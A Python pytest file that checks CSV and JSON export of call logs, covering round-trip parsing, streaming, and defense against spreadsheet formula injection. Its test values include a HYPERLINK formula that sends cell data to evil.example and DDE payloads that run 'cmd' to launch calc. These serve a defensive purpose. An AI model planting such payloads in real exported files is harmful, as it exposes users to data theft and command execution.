"""CSV and JSON export: parse back exactly, stream, and resist formula injection."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime

import pytest

from ctikit.storage import (
    CSV_COLUMNS,
    CallLog,
    CallLogStore,
    NewCallLog,
    csv_header,
    csv_row,
    export_csv,
    export_json,
)

MakeLog = Callable[..., NewCallLog]

TRICKY_COMMENT = 'Customer said: "call me back, please",\nthen hung up.\r\nRef: a,b;c'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def collect(chunks: AsyncIterator[str]) -> str:
    return "".join([chunk async for chunk in chunks])


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def sample_log(**overrides: object) -> CallLog:
    values: dict[str, object] = {
        "id": "log_" + "a" * 32,
        "created_at": datetime(2024, 5, 1, 12, 0, tzinfo=UTC),
        "agent_id": "agent-1",
        "call_id": "call-1",
        "call_type": "INBOUND",
        "label": None,
        "ani": "4155550100",
        "dnis": None,
        "attached_data": {"k": 'v, "q"', "n": [1, 2]},
        "started_at": datetime(2024, 5, 1, 11, 59, 0, 5, tzinfo=UTC),
        "ended_at": None,
        "duration_seconds": 60,
        "disposition": None,
        "subject": "hello",
        "comments": TRICKY_COMMENT,
    }
    values.update(overrides)
    return CallLog(**values)  # type: ignore[arg-type]


def test_csv_header_matches_columns() -> None:
    assert CSV_COLUMNS[0] == "id" and CSV_COLUMNS[-1] == "attached_data"
    assert parse_csv(csv_header()) == [list(CSV_COLUMNS)]
    assert csv_header().endswith("\r\n")


def test_csv_row_quotes_and_formats() -> None:
    [row] = parse_csv(csv_row(sample_log()))
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    assert cells["comments"] == TRICKY_COMMENT
    assert cells["created_at"] == "2024-05-01T12:00:00Z"
    assert cells["started_at"] == "2024-05-01T11:59:00.000005Z"
    assert cells["label"] == cells["ended_at"] == cells["disposition"] == ""
    assert cells["duration_seconds"] == "60"
    assert cells["attached_data"] == '{"k":"v, \\"q\\"","n":[1,2]}'
    assert json.loads(cells["attached_data"]) == {"k": 'v, "q"', "n": [1, 2]}


@pytest.mark.parametrize(
    "value",
    [
        FORMULA,
        "+1415+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tcmd",
        "\r=1",
        "=1",
        "+1 415",
        "=cmd|' /C calc'!A0",
    ],
)
def test_csv_row_guards_formula_injection(value: str) -> None:
    [row] = parse_csv(csv_row(sample_log(subject=value, ani=value, comments=value)))
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    assert cells["subject"] == cells["ani"] == cells["comments"] == "'" + value


def test_csv_row_leaves_safe_text_alone() -> None:
    [row] = parse_csv(
        csv_row(sample_log(subject="a=b", comments="'already", ani="+14155550100", dnis="-12.5"))
    )
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    assert (cells["subject"], cells["comments"]) == ("a=b", "'already")
    assert (cells["ani"], cells["dnis"]) == ("+14155550100", "-12.5")


async def test_export_csv_parses_back(store: CallLogStore, make_log: MakeLog) -> None:
    first = await store.save(
        make_log(
            comments=TRICKY_COMMENT,
            subject=FORMULA,
            ani="+14155550100",
            attached_data={"nested": {"list": [1, "two, three", None]}, "ü": "ß"},
            started_at=datetime(2024, 5, 1, 10, 0, tzinfo=UTC),
            duration_seconds=42,
        )
    )
    second = await store.save(make_log(agent_id="agent-2", call_type="OUTBOUND"))
    rows = parse_csv(await collect(export_csv(store)))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 3
    cells = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [c["id"] for c in cells] == [first.id, second.id]  # oldest first
    assert cells[0]["comments"] == TRICKY_COMMENT
    assert cells[0]["subject"] == "'" + FORMULA
    assert cells[0]["ani"] == "+14155550100"  # a plain number cannot hide a formula
    assert json.loads(cells[0]["attached_data"]) == first.attached_data
    assert cells[0]["started_at"] == "2024-05-01T10:00:00Z"
    assert cells[0]["duration_seconds"] == "42"
    assert cells[1]["attached_data"] == "null"
    filtered = parse_csv(await collect(export_csv(store, agent_id="agent-2")))
    assert [row[0] for row in filtered[1:]] == [second.id]


async def test_export_csv_empty_has_header_only(store: CallLogStore) -> None:
    assert parse_csv(await collect(export_csv(store))) == [list(CSV_COLUMNS)]


async def test_export_json_empty(store: CallLogStore) -> None:
    assert json.loads(await collect(export_json(store))) == []


async def test_export_json(store: CallLogStore, make_log: MakeLog) -> None:
    logs = [
        await store.save(make_log(comments=TRICKY_COMMENT, attached_data={"a": [1, {"b": "é"}]})),
        await store.save(make_log(call_id="call-2", subject="📞")),
        await store.save(make_log(call_id="call-3")),
    ]
    chunks = [chunk async for chunk in export_json(store)]
    assert len(chunks) > 2  # streamed, not one big string
    assert json.loads("".join(chunks)) == [log.to_dict() for log in logs]
    only = json.loads(await collect(export_json(store, call_id="call-2")))
    assert [item["id"] for item in only] == [logs[1].id]
    since = json.loads(await collect(export_json(store, since=logs[2].created_at)))
    assert [item["id"] for item in since] == [logs[2].id]


def test_one_list_of_call_log_fields() -> None:
    from datetime import UTC, datetime

    from ctikit.storage.records import CALL_LOG_FIELDS, CallLog

    log = CallLog(
        id="log_1",
        created_at=datetime(2026, 1, 1, tzinfo=UTC),
        agent_id="a1",
        call_id="c1",
        call_type="INBOUND",
    )
    assert tuple(log.to_dict()) == CALL_LOG_FIELDS == CSV_COLUMNS
